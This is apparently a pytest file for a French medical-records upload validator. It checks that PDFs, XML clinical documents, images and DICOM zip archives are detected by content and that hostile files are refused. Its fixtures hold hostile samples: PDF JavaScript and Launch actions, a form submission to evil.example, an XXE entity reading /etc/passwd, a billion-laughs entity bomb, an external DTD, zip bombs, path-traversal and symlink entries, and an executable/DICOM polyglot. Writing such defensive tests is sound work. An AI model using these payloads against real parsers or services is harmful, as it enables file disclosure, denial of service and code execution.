"""Upload checks: detection by content, and refusal of active or hostile content. Files are built in the test
(PDFs by hand, with reportlab and pypdf; images with Pillow; DICOM from pydicom's wheel)."""

import io
import zipfile

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

import carnet.interop.formats as formats
import carnet.interop.zips as zips
from carnet.interop.formats import UnsupportedFormat, inspect_bytes, inspect_file, safe_xml_parse
from tests.interop.builders import CDA_30, cda, dicom_file, flate_stream, non_xml, pdf, reportlab_pdf, structured

JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
CATALOG_WITH_ACTION = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"


def refusal(data: bytes, **kwargs) -> str:
    with pytest.raises(UnsupportedFormat) as caught:
        inspect_bytes(data, **kwargs)
    assert caught.value.message  # something to show a person
    return caught.value.code


def image_bytes(kind: str, size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, format=kind)
    return out.getvalue()


# --- detection --------------------------------------------------------------------------------------------------

def test_inspect_file_reads_a_path_and_reports_kind_mime_type_and_size(tmp_path):
    path = tmp_path / "scan"
    path.write_bytes(reportlab_pdf())
    found = inspect_file(path)
    assert (found.kind, found.mime_type, found.extension) == ("pdf", "application/pdf", ".pdf")
    assert found.size == path.stat().st_size


@pytest.mark.parametrize("kind, mime_type", [("JPEG", "image/jpeg"), ("PNG", "image/png")])
def test_images_made_with_pillow_are_accepted(kind, mime_type):
    assert inspect_bytes(image_bytes(kind)).mime_type == mime_type


def test_plain_utf8_text_is_accepted():
    text = "Tension 12/8, pouls 72.\r\n\tÀ revoir dans 3 mois.\f".encode()
    assert inspect_bytes(text).kind == "text"


def test_a_cda_is_accepted_as_text_xml():
    found = inspect_file(CDA_30 / "CSE-CS8_2024.01.xml")
    assert (found.kind, found.mime_type) == ("cda", "text/xml")


def test_a_dicom_file_is_accepted():
    found = inspect_file(dicom_file("CT_small.dcm"))
    assert (found.kind, found.mime_type) == ("dicom", "application/dicom")


def test_the_file_name_never_decides():
    html = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
    assert refusal(html, filename="compte-rendu.pdf") == "html"
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(200)
    with pytest.raises(UnsupportedFormat) as caught:
        inspect_bytes(exe, filename="ordonnance.pdf")
    assert caught.value.code == "unknown_format"
    assert "PDF attendu" in str(caught.value.message)
    assert inspect_bytes(reportlab_pdf(), filename="photo.jpg").kind == "pdf"


def test_empty_and_oversized_files_are_refused():
    assert refusal(b"") == "empty"
    assert refusal(b"hello", max_bytes=4) == "too_large"


def test_text_with_a_nul_byte_or_control_characters_is_refused():
    assert refusal(b"bonjour\x00monde") == "unknown_format"
    assert refusal(b"bonjour\x1b[31m rouge") == "text_invalid"


def test_text_in_a_legacy_encoding_is_refused_with_a_text_message():
    assert refusal("Réévaluation à prévoir".encode("cp1252")) == "text_invalid"


def test_a_fake_png_is_refused():
    assert refusal(b"\x89PNG\r\n\x1a\n" + b"not really a png" * 10) == "image_invalid"


# --- PDF --------------------------------------------------------------------------------------------------------

def test_plain_pdfs_are_accepted():
    assert inspect_bytes(reportlab_pdf()).kind == "pdf"
    assert inspect_bytes(pdf()).kind == "pdf"
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    assert inspect_bytes(out.getvalue()).kind == "pdf"


def test_an_open_action_that_only_shows_page_one_is_accepted():
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
    assert inspect_bytes(pdf({1: catalog})).kind == "pdf"
    assert inspect_bytes(pdf({1: catalog}, packed=(1, 2, 3))).kind == "pdf"


def test_a_pdf_with_javascript_added_by_pypdf_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    out = io.BytesIO()
    writer.write(out)
    assert refusal(out.getvalue()) == "pdf_javascript"


def test_a_javascript_open_action_is_refused():
    assert refusal(pdf({1: CATALOG_WITH_ACTION, 4: JS_ACTION})) == "pdf_javascript"


def test_hex_escaped_names_do_not_hide_javascript():
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (x) >> >>"
    assert refusal(pdf({1: catalog})) == "pdf_javascript"


def test_javascript_inside_a_compressed_object_stream_is_refused():
    assert refusal(pdf({1: CATALOG_WITH_ACTION, 4: JS_ACTION}, packed=(1, 2, 3, 4))) == "pdf_javascript"


def test_javascript_behind_a_filter_chain_is_found_by_the_structural_pass(monkeypatch):
    hidden = pdf({1: CATALOG_WITH_ACTION, 4: JS_ACTION}, packed=(1, 2, 3, 4), hex_wrap=True)
    assert refusal(hidden) == "pdf_javascript"
    monkeypatch.setattr(formats, "_scan_pdf_objects", lambda fh: None)
    assert inspect_bytes(hidden).kind == "pdf"  # the raw passes alone cannot see it: the pypdf walk is needed


def test_javascript_in_an_object_no_xref_lists_is_found_by_the_raw_passes(monkeypatch):
    monkeypatch.setattr(formats, "_scan_pdf_objects", lambda fh: None)
    assert refusal(pdf(orphans=(JS_ACTION,))) == "pdf_javascript"
    assert refusal(pdf(orphans=(flate_stream(JS_ACTION, object_stream=True),))) == "pdf_javascript"
    assert refusal(pdf({1: CATALOG_WITH_ACTION, 4: JS_ACTION}, packed=(1, 2, 3, 4))) == "pdf_javascript"


def test_denied_names_inside_compressed_page_or_image_data_are_not_active_content():
    """Random compressed bytes contain "/JS" about once per thousand 100 kB files: those PDFs are valid."""
    image = b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray " \
            b"/Filter /DCTDecode /Length 24 >>\nstream\n\x00\x01/JS\n/JavaScript\x02\x03/Launch\x04\nendstream"
    assert formats.inspect_bytes(pdf({5: image})).kind == "pdf"
    inflated_text = flate_stream(b"BT /F1 12 Tf (/JS in a page's text) Tj ET /JavaScript")
    assert formats.inspect_bytes(pdf({5: inflated_text})).kind == "pdf"
    plain = b"<< /Length 30 >>\nstream\n9 0 obj << /S /JavaScript >>\nendstream"
    assert refusal(pdf({5: plain})) == "pdf_javascript"  # uncompressed: a repairing reader might parse it


@pytest.mark.parametrize("page, code", [
    (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>", "pdf_javascript"),
    (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Subtype /Link /Rect [0 0 9 9] "
     b"/A << /S /Launch /F (calc.exe) >> >>] >>", "pdf_action"),
    (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Subtype /Link /Rect [0 0 9 9] "
     b"/A << /S /SubmitForm /F (https://evil.example) >> >>] >>", "pdf_action"),
])
def test_automatic_and_dangerous_actions_are_refused(page, code):
    assert refusal(pdf({3: page, 4: b"<< /S /GoTo /D [3 0 R /Fit] >>"})) == code


def test_embedded_files_are_refused():
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>"
    spec = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
    embedded = b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"
    assert refusal(pdf({1: catalog, 4: spec, 5: embedded})) == "pdf_embedded_file"


def test_a_password_protected_pdf_is_refused_but_an_owner_only_one_is_checked_and_accepted():
    def encrypted(user_password: str) -> bytes:
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    assert refusal(encrypted("patient")) == "pdf_encrypted"
    assert inspect_bytes(encrypted("")).kind == "pdf"


def test_a_broken_pdf_is_refused():
    assert refusal(b"%PDF-1.4\n" + b"\x00garbage" * 50) == "pdf_unreadable"


# --- XML --------------------------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&lol9;</title></ClinicalDocument>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!-- a comment first -->
<!DOCTYPE ClinicalDocument SYSTEM "http://evil.example/cda.dtd">
<ClinicalDocument xmlns="urn:hl7-org:v3"/>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["billion-laughs", "xxe", "dtd"])
def test_any_doctype_is_refused_before_parsing(document):
    assert refusal(document) == "xml_entities"
    with pytest.raises(UnsupportedFormat) as caught:
        safe_xml_parse(document)
    assert caught.value.code == "xml_entities"


def test_a_doctype_in_utf16_is_refused_too():
    assert refusal(XXE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")) \
        == "xml_entities"


def test_xml_that_is_not_cda_is_refused():
    assert refusal(b'<?xml version="1.0"?><invoice><total>12</total></invoice>') == "xml_not_cda"
    assert refusal(b'<ClinicalDocument xmlns="urn:other"/>') == "xml_not_cda"
    assert refusal(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>') == "html"


def test_malformed_xml_is_refused():
    assert refusal(b'<?xml version="1.0"?><ClinicalDocument xmlns="urn:hl7-org:v3"><title>') == "xml_invalid"


def test_a_self_presenting_cda_is_accepted_but_a_bare_stylesheet_is_not():
    assert inspect_file(CDA_30 / "CANCER-PPS_2022.01_Autopresentable.xml").kind == "cda"
    stylesheet = (b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
                  b'<xsl:template match="/"><html><script>alert(1)</script></html></xsl:template></xsl:stylesheet>')
    assert refusal(stylesheet) == "xml_not_cda"


def test_a_cda_whose_attachment_is_dangerous_is_refused():
    assert refusal(cda(non_xml(pdf({1: CATALOG_WITH_ACTION, 4: JS_ACTION})))) == "cda_attachment"
    assert refusal(cda(non_xml(b"<html><script>alert(1)</script></html>", "text/html"))) == "cda_attachment"
    assert inspect_bytes(cda(non_xml(reportlab_pdf()))).kind == "cda"


def test_an_xml_attachment_is_kept_when_safe_and_refused_with_a_doctype():
    media = '<component><observationMedia ID="m1"><value mediaType="application/xml" representation="B64">{}' \
            "</value></observationMedia></component>"
    import base64

    safe = base64.b64encode(b"<?xml version='1.0'?><DonneesAdmin><Num>1</Num></DonneesAdmin>").decode()
    assert inspect_bytes(cda(structured(f"<title>Pièce</title><entry>{media.format(safe)}</entry>"))).kind == "cda"
    bomb = base64.b64encode(BILLION_LAUGHS).decode()
    assert refusal(cda(structured(f"<title>Pièce</title><entry>{media.format(bomb)}</entry>"))) == "cda_attachment"


# --- ZIP of DICOM -----------------------------------------------------------------------------------------------

def dicom_zip(extra: dict[str, bytes] | None = None) -> dict[str, bytes]:
    members = {f"etude/{name}": dicom_file(name).read_bytes()
               for name in ("CT_small.dcm", "MR_small.dcm", "SC_rgb_small_odd.dcm")}
    members.update(extra or {})
    return members


def write_zip(members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_a_zip_of_pydicom_test_files_is_a_dicom_zip():
    found = inspect_bytes(write_zip(dicom_zip()))
    assert (found.kind, found.mime_type, found.entries) == ("dicom-zip", "application/zip", 3)


def test_macos_metadata_in_a_zip_is_tolerated():
    found = inspect_bytes(write_zip(dicom_zip({"__MACOSX/etude/._CT_small.dcm": b"\x00\x05\x16\x07junk",
                                               "etude/.DS_Store": b"\x00\x00\x00\x01Bud1"})))
    assert found.entries == 3


def test_a_zip_with_anything_but_dicom_is_refused():
    assert refusal(write_zip(dicom_zip({"etude/lisez-moi.txt": b"Bonjour"}))) == "zip_not_dicom"
    assert refusal(write_zip({"rapport.docx": b"PK\x03\x04 word"})) == "zip_nested"
    assert refusal(write_zip({})) in {"zip_not_dicom", "unknown_format"}


def test_a_highly_compressed_entry_is_a_zip_bomb():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("etude/huge.dcm", "w") as member:
            member.write(bytes(128) + b"DICM")
            for _ in range(20):
                member.write(bytes(1024 * 1024))
    assert refusal(out.getvalue()) == "zip_bomb"


def test_a_zip_whose_headers_understate_the_size_is_refused():
    data = write_zip({"etude/a.dcm": bytes(128) + b"DICM" + bytes(3 * 1024 * 1024)})
    real = (3 * 1024 * 1024 + 132).to_bytes(4, "little")
    forged = data.replace(real, (1000).to_bytes(4, "little"))  # local header and central directory
    assert forged != data
    assert refusal(forged) in {"zip_bomb", "zip_invalid"}


def test_too_many_entries_is_a_zip_bomb(monkeypatch):
    monkeypatch.setattr(zips, "ZIP_MAX_ENTRIES", 2)
    assert refusal(write_zip(dicom_zip())) == "zip_bomb"


def test_nested_archives_are_refused():
    inner = write_zip(dicom_zip())
    assert refusal(write_zip(dicom_zip({"etude/autre.zip": inner}))) == "zip_nested"
    assert refusal(write_zip(dicom_zip({"etude/IMG0001.dcm": inner}))) == "zip_nested"  # by content, not name


@pytest.mark.parametrize("name", ["../../etc/cron.d/x.dcm", "/tmp/x.dcm", "C:\\Windows\\x.dcm", "etude/..\\..\\x.dcm"])
def test_path_traversal_names_are_refused(name):
    assert refusal(write_zip(dicom_zip({name: dicom_file("CT_small.dcm").read_bytes()}))) == "zip_unsafe_name"


def test_a_symlink_entry_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("etude/lien.dcm")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert refusal(out.getvalue()) == "zip_unsafe_name"


def test_an_encrypted_entry_is_refused():
    data = bytearray(write_zip(dicom_zip()))
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            data[start + flag_offset] |= 0x01
            start += 4
    assert refusal(bytes(data)) == "zip_encrypted"


def test_a_dicom_preamble_holding_a_program_is_refused():
    polyglot = b"MZ\x90\x00" + bytes(124) + dicom_file("CT_small.dcm").read_bytes()[128:]
    assert refusal(polyglot) == "dicom_polyglot"
    assert refusal(write_zip({"etude/a.dcm": polyglot})) == "dicom_polyglot"


def test_refusal_messages_are_french_and_never_contain_the_content():
    secret = b"Patient Dupont, VIH positif"
    with pytest.raises(UnsupportedFormat) as caught:
        inspect_bytes(b"\x00" + secret)
    assert "Dupont" not in str(caught.value.message) and "Dupont" not in str(caught.value)
    assert "format" in str(caught.value.message)


def test_real_cda_samples_with_attachments_pass(tmp_path):
    for name in ("BIO-CR-BIO_2024.01_CR-2nde-intention-PDF.xml", "OPH-CR-RTN_2022.01.xml", "IPS-FR_2024.01_DLU.xml"):
        assert inspect_file(CDA_30 / name).kind == "cda"


def test_a_large_text_file_is_checked_in_chunks(tmp_path):
    path = tmp_path / "notes.txt"
    with open(path, "wb") as fh:
        for _ in range(3):
            fh.write(("Ligne de texte accentué é à ü\n" * 40000).encode())
    assert inspect_file(path).kind == "text"


def test_parser_warnings_that_quote_the_file_never_reach_the_logs(caplog):
    broken = pdf({3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Secret (Dupont VIH) >>"})
    broken = broken.replace(b"startxref\n", b"startxref\n9").replace(b"%%EOF", b"")
    with caplog.at_level("DEBUG"):
        try:
            inspect_bytes(broken)
        except UnsupportedFormat:
            pass
    assert not [r for r in caplog.records if r.name.startswith("pypdf")]


def test_the_parser_refuses_a_doctype_even_if_the_prolog_check_missed_it(monkeypatch):
    monkeypatch.setattr(formats, "check_xml_prolog", lambda head: None)
    assert refusal(EXTERNAL_DTD) == "xml_entities"


def test_an_attachment_over_the_xml_text_limit_is_refused_without_building_a_tree():
    from carnet.interop.cda import read_header, render

    document = cda('<component><nonXMLBody><text mediaType="application/pdf" representation="B64">'
                   + "QUFB" * (3 * 1024 * 1024) + "</text></nonXMLBody></component>")
    assert refusal(document) == "xml_too_large"
    assert read_header(document).body_kind == "non-xml"  # the header is still readable for indexing
    with pytest.raises(UnsupportedFormat) as caught:
        render(document)
    assert caught.value.code == "xml_too_large"
